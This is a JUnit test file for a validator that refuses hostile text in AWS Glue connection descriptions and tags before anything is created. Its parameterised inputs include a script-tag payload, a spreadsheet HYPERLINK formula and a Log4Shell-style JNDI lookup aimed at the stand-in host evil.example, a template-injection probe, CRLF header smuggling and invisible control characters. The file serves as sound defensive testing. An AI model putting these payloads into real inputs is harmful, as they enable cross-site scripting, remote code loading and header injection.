package dev.pipewright.core.request;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.pipewright.core.error.Finding;
import dev.pipewright.core.json.Json;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What becomes a name, a description or a tag in the account holds what AWS takes and people can see: it is refused when it is
 * asked for, not after it was approved.
 *
 * @see <a href="https://docs.aws.amazon.com/glue/latest/webapi/API_ConnectionInput.html">ConnectionInput: Description</a>
 * @see <a href="https://docs.aws.amazon.com/tag-editor/latest/userguide/best-practices-and-strats.html">Tag naming limits</a>
 */
class HostileRequestTest {

    private final RequestReader reader = new RequestReader();

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a\u0000b",
                "a\u001b[31mb",
                "a\u009b31mb",
                "a\u202eb",
                "a\u2066b",
                "a\u200bb",
                "a\ufeffb",
                "a\u2028b",
                "a\u0007b",
                "a\u0085b"
            })
    void whatCannotBeSeenIsNoDescriptionAndNoTag(String hostile) {
        assertThat(paths(described(hostile))).containsExactly("connection.description");
        assertThat(paths(tagged("team", hostile))).containsExactly("connection.tags.team");
        assertThat(paths(tagged(hostile, "data"))).isNotEmpty().allMatch(path -> path.startsWith("connection.tags"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "=HYPERLINK(\"https://evil.example\")&x",
                "{{7*7}}",
                "${jndi:ldap://evil.example/a}",
                "[click](https://evil.example)",
                "\r\nBcc: everybody@example.com",
                "a\tb",
                "\ud83d\ude80"
            })
    void whatAwsDoesNotTakeInATagIsRefusedBeforeAnythingIsMade(String hostile) {
        assertThat(paths(tagged("team", hostile))).containsExactly("connection.tags.team");
        assertThat(paths(tagged(hostile, "data"))).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"aws:cloudformation:stack-name", "AWS:x", "aWs:x", "pipewright:host"})
    void whatAwsAndPipewrightKeepForThemselvesIsNoTag(String name) {
        assertThat(paths(tagged(name, "x"))).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"analytics", "data platform", "Ünïcode 東京", "a+b=c", "a.b_c:d/e@f-g", "2026"})
    void whatAwsTakesIsATag(String text) {
        assertThat(paths(tagged("cost-centre", text))).isEmpty();
        assertThat(paths(tagged(text, "x"))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Orders, read by the nightly job",
                "two\nlines\tand a tab",
                "<b>no markup</b> \ud83d\ude80 東京",
                "=1+1"
            })
    void whatCanBeSeenIsADescription(String text) {
        assertThat(paths(described(text))).isEmpty();
    }

    private static ObjectNode described(String description) {
        var request = Json.mapper().createObjectNode();
        request.putObject("connection").put("description", description);
        return request;
    }

    private static ObjectNode tagged(String name, String value) {
        var request = Json.mapper().createObjectNode();
        request.putObject("connection").putObject("tags").put(name, value);
        return request;
    }

    private List<String> paths(ObjectNode request) {
        return reader.read(request).findings().stream().map(Finding::path).toList();
    }
}
